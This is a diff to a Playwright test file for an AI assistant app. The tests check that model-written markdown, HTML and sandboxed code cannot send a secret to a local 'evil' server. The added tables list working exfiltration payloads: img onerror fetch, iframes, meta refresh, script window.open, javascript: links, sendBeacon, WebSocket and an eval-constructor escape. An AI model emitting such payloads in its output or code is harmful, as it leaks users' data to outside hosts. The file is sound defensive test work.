@@ -2,8 +2,13 @@ import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { expect } from '@playwright/test';
 import type { Cairn } from '../e2e/support/cairn.ts';
+import { diligentModel } from '../e2e/support/diligent-model.ts';
 import type { ScriptedModel } from '../e2e/support/model-server.ts';
+import { keptOffline } from '../e2e/support/kept-offline.ts';
 import { test } from './support/trial-test.ts';
+
+/** As people have it: the browser itself holds what leaves to its sites. */
+test.use({ serviceWorkers: 'allow' });
 
 const secret = 'Pay the ransom to Rumpelstiltskin';
 
@@ -146,6 +151,7 @@ for (let part = 0; part < parts; part += 1)
     const site = await serve([], () => `<title>News</title><main><h1>News</h1><p>${orders}</p></main>`);
     const address = `http://127.0.0.1:${site.port}/news`;
     try {
+      await keptOffline(app.page);
       await app.enterKey(model);
       await app.send(`/todo ${secret}`);
       const begin = async (call: Call, at: number) => {
@@ -192,3 +198,114 @@ for (let part = 0; part < parts; part += 1)
       site.server.close();
     }
   });
+
+/** Ways to have a reader's page ask an address: those a person can open come first, with the words they open it by. */
+const inWriting: Record<string, { text: (address: string) => string; opens?: string }> = {
+  'a link': { text: (address) => `See [the report](${address}).`, opens: 'the report' },
+  'a reference link': { text: (address) => `See [the list][1].\n\n[1]: ${address}`, opens: 'the list' },
+  'an address': { text: (address) => `See <${address}>.`, opens: '' },
+  'an image': { text: (address) => `![logo](${address})`, opens: 'Image: logo' },
+  'a reference image': { text: (address) => `![seal][s]\n\n[s]: ${address}`, opens: 'Image: seal' },
+  'an image within a link': { text: (address) => `[![badge](${address}&a)](${address})` },
+  'an image tag': { text: (address) => `<img src="${address}" onerror="fetch('${address}')">` },
+  'a frame': { text: (address) => `<iframe src="${address}"></iframe><object data="${address}"></object>` },
+  'a prefetch': {
+    text: (address) => `<link rel="prefetch" href="${address}"><link rel="dns-prefetch" href="${address}">`,
+  },
+  'a navigation': {
+    text: (address) => `<meta http-equiv="refresh" content="0;url=${address}"><base href="${address}">`,
+  },
+  'a form': { text: (address) => `<form action="${address}"><button autofocus>Go</button></form>` },
+  'a style': { text: (address) => `<style>@import "${address}"; * { background: url(${address}) }</style>` },
+  'a script': { text: (address) => `<script>window.open('${address}'); location = '${address}'</script>` },
+  'a script address': { text: (address) => `[run](javascript:fetch('${address}'))` },
+};
+
+test('R13.2, R13.4 what a model writes reaches nobody by itself; what a person opens is what they were shown', async ({
+  app,
+  model,
+  context,
+}) => {
+  test.setTimeout(300_000);
+  const received: Received[] = [];
+  let connections = 0;
+  const evil = await serve(received, () => '<p>Thank you.</p>');
+  evil.server.on('connection', () => (connections += 1));
+  const address = `http://127.0.0.1:${evil.port}/?q=${encodeURIComponent(secret)}`;
+  const sightings = () => received.filter(({ url }) => !url.endsWith('/favicon.ico'));
+  try {
+    await keptOffline(app.page);
+    await app.enterKey(model);
+    for (const [name, { text, opens }] of Object.entries(inWriting))
+      await test.step(name, async () => {
+        const marker = `The end of ${name}.`;
+        model.play({ topic: () => name, answer: () => ({ text: `${text(address)}\n\n${marker}` }) });
+        await app.newSession();
+        await app.send(`Write ${name}`);
+        await expect(app.conversation.getByText(marker)).toBeVisible();
+        await app.tab('History');
+        await app.tab('Plan');
+        expect([connections, context.pages().length], name).toEqual([0, 1]);
+        if (opens === undefined) return;
+        const links = app.conversation.getByRole('link');
+        await (opens ? links.filter({ hasText: opens }) : links).click();
+        const dialog = app.page.getByRole('dialog', { name: 'Open this address?' });
+        await expect(dialog).toContainText(address);
+        const opening = context.waitForEvent('page');
+        await dialog.getByRole('link', { name: 'Open' }).click();
+        const opened = await opening;
+        await opened.waitForLoadState();
+        await opened.close();
+        expect(sightings(), name).toEqual([{ method: 'GET', url: address, body: '' }]);
+        received.length = 0;
+        connections = 0;
+      });
+  } finally {
+    evil.server.closeAllConnections();
+    evil.server.close();
+  }
+});
+
+/** What a program of the model's may try in order to reach an address. */
+const inPrograms: Record<string, (address: string) => string> = {
+  fetch: (address) => `await fetch('${address}')`,
+  XMLHttpRequest: (address) => `const x = new XMLHttpRequest(); x.open('GET', '${address}'); x.send()`,
+  WebSocket: (address) => `new WebSocket('${address.replace('http', 'ws')}')`,
+  EventSource: (address) => `new EventSource('${address}')`,
+  WebRTC: (address) => `new RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(address).host}' }] })`,
+  sendBeacon: (address) => `navigator.sendBeacon('${address}', 'x')`,
+  importScripts: (address) => `importScripts('${address}')`,
+  import: (address) => `await import('${address}')`,
+  'window.open': (address) => `window.open('${address}')`,
+  navigation: (address) => `location.href = '${address}'; globalThis.location.assign('${address}')`,
+  Image: (address) => `new Image().src = '${address}'`,
+  constructor: (address) => `(0, eval)("this.constructor.constructor('return fetch')()('${address}')")`,
+};
+
+test('R9.8, R13.4 a program of the model’s reaches nobody, whatever it tries', async ({ app, model }) => {
+  test.setTimeout(300_000);
+  const evil = await serve([], () => '');
+  let connections = 0;
+  evil.server.on('connection', () => (connections += 1));
+  const address = `http://127.0.0.1:${evil.port}/?q=1`;
+  try {
+    await keptOffline(app.page);
+    await app.enterKey(model);
+    model.play(
+      diligentModel(
+        Object.entries(inPrograms).map(([name, write]) => ({
+          description: `Try ${name}`,
+          calls: [{ name: 'compute', input: { code: `${write(address)};\n'done'` } }],
+        })),
+        'All were tried.',
+      ),
+    );
+    await app.send('Try it all');
+    await app.expectPlanStatus('completed');
+    const results = model.asks.flatMap(({ results }) => results).filter((result) => /program/.test(result));
+    expect(results.length).toBeGreaterThanOrEqual(Object.keys(inPrograms).length);
+    expect(connections).toBe(0);
+  } finally {
+    evil.server.close();
+  }
+});
